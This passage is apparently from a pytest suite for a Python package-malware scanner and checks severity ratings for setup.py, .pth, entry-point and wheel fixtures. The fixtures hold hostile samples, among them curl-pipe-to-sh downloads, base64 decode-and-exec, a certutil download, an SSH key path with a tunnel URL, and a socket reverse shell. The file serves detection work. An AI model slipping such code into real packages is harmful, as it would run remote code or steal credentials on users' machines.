        "benign: utf-8 and default decodes are not codecs that hide code",
    ),
    (
        setup_py("__builtins__.__dict__['exec']('print(1)')\n"),
        "code.obfuscation",
        M,
        "exec taken from the builtins __dict__",
    ),
    (
        setup_py("b = globals()['__builtins__']\n"),
        "code.obfuscation",
        L,
        "builtins reached through globals()",
    ),
    (
        setup_py("cfg = Config()\nname = cfg.__dict__['name']\n"),
        "code.obfuscation",
        None,
        "benign: an ordinary object's __dict__",
    ),
    # ---- threats: blobs, download then run, runtime thresholds
    (
        setup_py("DATA = '" + "7072696e7428312920" * 120 + "'\n"),
        "code.obfuscation",
        L,
        "a 2160-character hex string",
    ),
    (
        setup_py("LICENSE = '" + "hello world " * 200 + "'\n"),
        "code.obfuscation",
        None,
        "benign: a long low-entropy text",
    ),
    (
        setup_py(
            "import subprocess, urllib.request\n"
            "urllib.request.urlretrieve('https://x.example/tool', 'tool')\nsubprocess.call(['./tool'])\n"
        ),
        "code.download-exec",
        C,
        "downloads a program and runs it without chmod",
    ),
    (
        setup_py(
            "import subprocess, urllib.request\n"
            "urllib.request.urlretrieve('https://example.org/src.tar.gz', 'src.tar.gz')\n"
            "subprocess.check_call(['make'])\n"
        ),
        "code.download-exec",
        None,
        "benign: downloads sources and runs make",
    ),
    (
        {
            "demo/net.py": "import base64\nU = 'https://x.ngrok.io/a'\nK = '~/.ssh/id_rsa'\n"
            "def load(b):\n    exec(base64.b64decode(b))\n"
        },
        "code.decode-exec",
        L,
        "runtime module parsed because exec sits near b64decode",
    ),
    (
        {
            "demo/net.py": "import base64\nU = 'https://x.ngrok.io/a'\nK = '~/.ssh/id_rsa'\n"
            "def load(b):\n    exec(base64.b64decode(b))\n"
        },
        "code.shady-url",
        None,
        "a lone tunnel URL in runtime code is info only",
    ),
    (
        {
            "demo/net.py": "import base64\nU = 'https://x.ngrok.io/a'\nK = '~/.ssh/id_rsa'\n"
            "def load(b):\n    exec(base64.b64decode(b))\n"
        },
        "code.credential-access",
        None,
        "a key path in runtime code without a send is info only",
    ),
    # ---- layout: scripts, src packages, .pth lines, pyproject and entry point edge cases
    (
        {"demo-1.0.data/scripts/ssh": "#!python\nprint(1)\n"},
        "code.command-shadow",
        M,
        "a wheel script named ssh",
        WHEEL,
    ),
    (
        {"demo-1.0/src/demo/__init__.py": f"import base64\nexec(base64.b64decode('{PAYLOAD}'))\n"},
        "code.decode-exec",
        C,
        "a src-layout package __init__ runs on import",
        SDIST,
    ),
    (
        {
            "demo.pth": "/opt/demo/lib\nimport demo_boot\n",
            "demo_boot.py": "import os\nos.system('curl -s https://x.example/i.sh | sh')\n",
        },
        "code.download-exec",
        C,
        "a module a .pth line imports runs at every start",
        WHEEL,
    ),
    (
        {"demo-1.0/pyproject.toml": "[build-system\nrequires = ['x @ https://x.example/x.zip']\n"},
        "code.build-backend",
        None,
        "a pyproject.toml that is not TOML is skipped",
        SDIST,
    ),
    (
        {"demo-1.0/pyproject.toml": "build-system = 'setuptools'\n"},
        "code.build-backend",
        None,
        "a build-system that is not a table is skipped",
        SDIST,
    ),
    (
        {
            "demo-1.0/pyproject.toml": "[build-system]\nrequires = ['setuptools>=61', 42]\n"
            "build-backend = 'setuptools.build_meta'\n"
        },
        "code.build-backend",
        None,
        "benign: PyPI requirements and a known backend",
        SDIST,
    ),
    (
        {
            "demo-1.0/pyproject.toml": "[build-system]\nrequires = ['setuptools']\n"
            "build-backend = 'mybuild.api'\n"
        },
        "code.build-backend",
        N,
        "an uncommon backend is context",
        SDIST,
    ),
    (
        {"demo-1.0.dist-info/entry_points.txt": "pip = demo.cli:main\n"},
        "code.command-shadow",
        None,
        "an entry_points.txt without a section header is unreadable: skipped",
        WHEEL,
    ),
    (
        {
            "demo-1.0.dist-info/entry_points.txt": "[console_scripts]\nssh = demo.cli:main\n",
            "demo/cli.py": "import os\ndef main():\n    os.system('curl -s https://x.example/i.sh | sh')\n",
        },
        "code.download-exec",
        H,
        "the module behind a shadowing command runs when it is typed",
        WHEEL,
    ),
    (
        {
            "demo/cli.py": "import os\ndef main():\n    os.system('curl -s https://x.example/i.sh | sh')\n"
        },
        "code.download-exec",
        L,
        "the same module without the shadowing command: an installer's idiom when called",
        WHEEL,
    ),
    (
        {
            "demo/__init__.py": "try:\n    import ujson\nexcept ImportError:\n    from . import _fallback\n",
            "demo/_fallback.py": "import os\nos.system('curl -s https://x.example/i.sh | sh')\n",
        },
        "code.download-exec",
        H,
        "a module imported in an except block runs on import",
        WHEEL,
    ),
    # ---- setup(...) keywords
    (
        setup_py(
            "from setuptools import setup\nfrom setuptools.command.develop import develop\n"
            "class D(develop):\n    pass\nCFG.extra = {}\ncmds = {'develop': D}\nsetup(cmdclass=cmds)\n"
        ),
        "code.cmdclass-override",
        N,
        "cmdclass passed through a module-level name",
    ),
    (
        setup_py("from setuptools import setup\nsetup(cmdclass={'build_sphinx': object})\n"),
        "code.cmdclass-override",
        None,
        "a command that does not run at install is not a hook",
    ),
    (
        setup_py(
            "from setuptools import setup\nsetup(entry_points={**BASE, 'pytest11': ['ssh = demo.plug'],"
            " 'console_scripts': ['noequals']})\n"
        ),
        "code.command-shadow",
        None,
        "plugin groups and malformed entries are not commands",
    ),
    # ---- files ast cannot parse: the line-regex pass, one level lower
    (
        setup_py(f"print 'building'\nimport base64\nexec base64.b64decode(\"{PAYLOAD}\")\n"),
        "code.decode-exec",
        H,
        "Python 2 setup.py: decode->exec read by regex",
    ),
    (
        setup_py("print 'x'\nimport os\nos.system(\"curl -s https://x.example/i.sh | sh\")\n"),
        "code.download-exec",
        H,
        "Python 2 setup.py: curl | sh read by regex",
    ),
    (
        setup_py(
            "print 'x'\nimport os\nos.system(\"certutil -urlcache -f http://x.example/a a.exe\")\n"
        ),
        "code.process-spawn",
        M,
        "Python 2 setup.py: a LOLBin read by regex",
    ),
    (
        setup_py("print 'x'\nimport os\nos.system(\"make\")\n"),
        "code.process-spawn",
        None,
        "Python 2 setup.py: the regex pass only rates commands that fetch or hide code",
    ),
    (
        setup_py("print 'x'\nURL = \"https://x.ngrok.io/a\"\n"),
        "code.shady-url",
        None,
        "Python 2 setup.py: a lone shady URL read by regex is info, dropped from the report",
    ),
    (
        setup_py("print 'x'\nimport os\nos.system(\"echo https://example.org/a\")\n"),
        "code.shady-url",
        None,
        "Python 2 setup.py: an ordinary URL is not shady",
    ),
    (
        setup_py("print 1\n# exec(base64.b64decode(blob))\n"),
        "code.decode-exec",
        None,
        "Python 2 setup.py: a commented-out line without quotes is ignored",
    ),
    (
        setup_py(
            f"import base64\nexec(base64.b64decode('{PAYLOAD}'))\n" + "# generated\n" * 400_000
        ),
        "code.decode-exec",
        H,
        "fixed: a setup.py padded past the parse limit is still read by regex",
    ),
    (
        setup_py("x = 1\x00\n"),
        "code.decode-exec",
        None,
        "a null byte: not Python, nothing to report",
    ),
    # ---- text evidence
    (
        setup_py("ARMOR = 'armor plating'\n"),
        "code.obfuscation",
        None,
        "benign: the word armor without the PyArmor runtime",
    ),
    (
        setup_py("x = 1" + " " * 200 + "# see the import notes\n"),
        "code.obfuscation",
        None,
        "benign: a comment far right is not hidden code",
    ),
    (
        {"demo/__init__.py": "x = '''\u202e never closed\n"},
        "code.invisible-unicode",
        M,
        "untokenizable source: every character counts as code",
    ),
    (
        {"demo/__init__.py": "x = 1\u200b\n" + "# pad\n" * 50_000},
        "code.invisible-unicode",
        M,
        "past the tokenize limit: a zero-width space before any quote or # is code",
    ),
    (
        {"demo/__init__.py": "s = 'a\u202eb\u202c'\n" + "# pad\n" * 50_000},
        "code.invisible-unicode",
        L,
        "past the tokenize limit: a paired bidi control after a quote is in a string",
    ),
]


@pytest.mark.parametrize(
    ("files", "check_id", "severity", "reason", "filename"),
    [
        (
            *case,
            SDIST
            if "demo-1.0/setup.py" in case[0] or "demo-1.0/pyproject.toml" in case[0]
            else WHEEL,
        )
        if len(case) == 4
        else case
        for case in CASES
    ],
    ids=[case[3] for case in CASES],
)
def test_table(
    files: dict[str, str | bytes],
    check_id: str,
    severity: Severity | None,
    reason: str,
    filename: str,
) -> None:
    assert worst(scan(files, filename), check_id) == severity, reason


EVIDENCE = [
    (
        setup_py("import subprocess\ncmd = input()\nsubprocess.call(cmd, shell=True)\n"),
        "code.process-spawn",
        "kind",
        {"dynamic"},
        "a command built at run time is rated dynamic",
    ),
    (
        setup_py("import subprocess\nsubprocess.call('sh -c \"make all\"', shell=True)\n"),
        "code.process-spawn",
        "kind",
        {"shell"},
        "sh -c is a shell wrapper",
    ),
    (
        setup_py(
            "import os, subprocess\nhere = os.path.dirname(__file__)\n"
            "subprocess.check_call([os.path.join(here, 'svc.exe')] + ['--install'])\n"
        ),
        "code.process-spawn",
        "command",
        {"{}/svc.exe --install"},
        "path pieces join with /, argument lists with a space",
    ),
    (
        setup_py("import subprocess\nsubprocess.call(input().strip())\n"),
        "code.process-spawn",
        "kind",
        {"dynamic"},
        "a method call other than format or join tells nothing",
    ),
    (
        setup_py("import os\nu = input()\nos.system('curl {} | sh'.format(u))\n"),
        "code.download-exec",
        "command",
        {"curl {} | sh"},
        "the unknown part stays a placeholder",
    ),
    (
        setup_py(
            "from setuptools import setup\nfrom setuptools.command.develop import develop\n"
            "class D(develop):\n    pass\nsetup(cmdclass={'develop': D, 'build_sphinx': D})\n"
        ),
        "code.cmdclass-override",
        "command",
        {"develop"},
        "only install-time commands are hooks",
    ),
    (
        setup_py(
            "from setuptools import setup\nsetup(entry_points={**BASE, 'pytest11': ['ssh = demo.plug'],"
            " 'console_scripts': ['noequals', 'ls = demo:main']})\n"
        ),
        "code.command-shadow",
        "command",
        {"ls"},
        "only console_scripts entries with '=' count",
    ),
    (
        {"demo-1.0.data/scripts/ssh": "#!python\n"},
        "code.command-shadow",
        "target",
        {"demo-1.0.data/scripts/ssh"},
        "a wheel script's target is its own path",
    ),
    (
        {
            "demo-1.0/pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = 'mybuild.api'\n"
        },
        "code.build-backend",
        "backend",
        {"mybuild.api"},
        "the uncommon backend is named",
    ),
    (
        setup_py("import socket\ns = socket.socket()\ns.connect(('93.184.216.34', 4444))\n"),
        "code.shady-url",
        "url",
        {"tcp://93.184.216.34"},
        "a connect address is shown as tcp://host",
    ),
    (
        setup_py(
            "import os, pty, socket\ns = socket.socket()\nos.dup2(s.fileno(), 0)\n"
            "pty.spawn('/bin/sh')\n"
        ),
        "code.process-spawn",
        "kind",
        {"reverse-shell"},
        "a shell on a dup2'ed socket",
    ),
    (
        setup_py("DATA = '" + "7072696e7428312920" * 120 + "'\n"),
        "code.obfuscation",
        "technique",
        {"blob"},
        "a hex blob is a blob",
    ),
    (
        setup_py(f"print 'x'\nimport base64\nexec base64.b64decode(\"{PAYLOAD}\")\n"),
        "code.decode-exec",
        "parsed",
        {"regex"},
        "regex evidence says so",
    ),
    (
        {
            "demo-1.0.dist-info/entry_points.txt": "[console_scripts]\nssh = demo.cli:main\n",
            "demo/cli.py": "import os\ndef main():\n    os.system('curl -s https://x.example/i.sh | sh')\n",
        },
        "code.download-exec",
        "reach",
        {"command"},
        "a shadowing command's module has command reach",
    ),
]


@pytest.mark.parametrize(
    ("files", "check_id", "key", "values", "reason"), EVIDENCE, ids=[e[4] for e in EVIDENCE]
)
def test_evidence(
    files: dict[str, str | bytes], check_id: str, key: str, values: set[str], reason: str
) -> None:
    found = {f.evidence[key] for f in laid_out(files) if f.check_id == check_id}
    assert found == values, reason


def test_caps_per_member_and_per_archive() -> None:
    """Six tunnel URLs in each of five imported modules: five kept per member, twenty in all,
    so the last module (in path order) gets none."""
    module = "import socket\n" + "".join(f"U{i} = 'https://h{i}.ngrok.io/x'\n" for i in range(6))
    files: dict[str, str | bytes] = {f"mod{m}.py": module for m in range(5)}
    found = [f for f in scan(files, WHEEL) if f.check_id == "code.shady-url"]
    per_path = Counter(f.evidence["path"] for f in found)
    assert per_path == {"mod0.py": 5, "mod1.py": 5, "mod2.py": 5, "mod3.py": 5}


def test_check_code_leaves_a_disabled_collector_disabled() -> None:
    gc.disable()
    try:
        scan(setup_py("import os\nos.system('make')\n"))
        assert not gc.isenabled()
    finally:
        gc.enable()
